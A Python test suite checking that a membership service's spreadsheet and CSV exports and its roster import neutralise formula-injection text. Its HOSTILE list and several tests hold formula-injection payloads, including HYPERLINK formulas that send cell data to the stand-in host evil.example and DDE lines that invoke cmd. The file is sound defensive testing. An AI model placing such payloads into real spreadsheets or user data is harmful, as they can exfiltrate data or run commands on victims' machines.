"""Spreadsheets are safe to open: hostile text is exported as text, never as a live formula.

A member named ``=HYPERLINK(…)`` or an evaluation comment starting with ``+``, ``-``, ``@``, a
tab or a carriage return would run as a formula in Excel/LibreOffice if written as-is. Every
export writes such text as a string cell (CSV: with a leading ``'``); numbers stay numbers.
Imported rosters keep a formula cell's text as plain text.
"""

import csv
import io
from datetime import date

from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from service.people.models import Member
from service.periods import period_containing
from service.rankings import service as rankings
from service.rankings.models import RankingSnapshot
from tests.factories import make_entry, make_member, make_registration, settle
from tests.rankings.conftest import TZ, at

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
OCTOBER = period_containing("month", date(2026, 10, 1), TZ)


def _cells(data: bytes):
    sheet = load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(data: bytes, expected_text):
    cells = _cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    # XML turns a carriage return into a line feed when read back: the text is otherwise exact.
    texts = {c.value for c in cells if c.data_type == "s"}
    for value in expected_text:
        assert value.replace("\r", "\n") in texts, value
    return cells


def test_ranking_export_writes_hostile_names_as_text_and_points_as_numbers(api, session, world):
    members = [make_member(session, name, building=world.building_a) for name in HOSTILE]
    for i, member in enumerate(members):
        make_entry(session, member, world.community_a, 10 + i, at(2026, 10, 3, 9))
    settle(session)
    rankings.publish_period(session, OCTOBER, at(2026, 11, 1, 1))
    snapshot = session.scalar(
        select(RankingSnapshot).where(
            RankingSnapshot.scope_kind == "community",
            RankingSnapshot.scope_id == world.community_a.id,
            RankingSnapshot.side == "total",
        )
    )
    session.close()
    url = f"/api/v1/rankings/{snapshot.id}/export"

    xlsx = api.as_("community_admin").get(url + "?format=xlsx")
    assert xlsx.status_code == 200
    cells = _assert_no_formula(xlsx.data, HOSTILE)
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    points = [
        row[5]
        for row in sheet.iter_rows(min_row=2, values_only=True)
        if row[3] in {n.replace("\r", "\n") for n in HOSTILE}
    ]
    assert sorted(points) == [10, 11, 12, 13, 14, 15]  # numbers, not text
    assert all(c.data_type == "n" for c in cells if c.column == 6 and c.row > 1)

    table = list(csv.reader(io.StringIO(api.as_("community_admin").get(url + "?format=csv").data.decode("utf-8-sig"))))
    hostile = {row[3]: row[5] for row in table[1:] if row[3] != world.member_a.name}
    assert set(hostile) == {"'" + name for name in HOSTILE}
    assert sorted(float(points) for points in hostile.values()) == [10, 11, 12, 13, 14, 15]


def test_compliance_export_writes_hostile_names_as_text(api, session, world):
    for name in HOSTILE:
        member = make_member(session, name, building=world.building_a, unit=world.unit)
        make_registration(session, member, world.community_a, "residence")
    settle(session)
    r = api.as_("unit_admin").get(f"/api/v1/units/{world.unit.id}/compliance?format=xlsx")
    assert r.status_code == 200
    _assert_no_formula(r.data, HOSTILE)


def test_double_evaluation_export_writes_a_hostile_comment_and_name_as_text(api, session, world):
    member = make_member(session, "=1+2", building=world.building_a, unit=world.unit)
    make_registration(session, member, world.community_a, "residence")
    make_entry(session, member, world.community_a, -5, at(2026, 10, 3, 9), kind="adjustment")
    settle(session)
    comment = '=HYPERLINK("http://evil.example","好")'
    saved = api.as_("community_admin").post(
        "/api/v1/evaluations",
        json={"member_id": member.id, "month": "2026-10-01", "rating": "good", "comment": comment},
    )
    assert saved.status_code == 201, saved.json
    r = api.as_("unit_admin").get(
        f"/api/v1/units/{world.unit.id}/double-evaluation?period=month&date=2026-10-01&format=xlsx"
    )
    assert r.status_code == 200
    cells = _assert_no_formula(r.data, ["=1+2", comment])
    row = next(c.row for c in cells if c.value == "=1+2")
    total = next(c for c in cells if c.row == row and c.column == 12)
    assert total.data_type == "n" and total.value == -5  # a negative number stays a number


def test_roster_import_stores_formula_cells_as_their_text(app, session, world, tmp_path):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["姓名", "手机号", "身份", "单位编码", "楼栋编码"])
    sheet.append(['=HYPERLINK("http://evil.example","赵六")', "13800138001", "在职党员", "", "T-BA"])
    sheet.append(["=1+1", "13800138002", "群众志愿者", "", "T-BA"])
    assert sheet["A2"].data_type == "f"  # a real formula cell in the uploaded file
    path = tmp_path / "members.xlsx"
    workbook.save(path)
    result = app.test_cli_runner().invoke(args=["import", "members", str(path)])
    assert result.exit_code == 0, result.output
    names = dict(session.execute(select(Member.phone, Member.name).where(Member.phone.like("1380013800%"))).all())
    assert names == {"13800138001": '=HYPERLINK("http://evil.example","赵六")', "13800138002": "=1+1"}
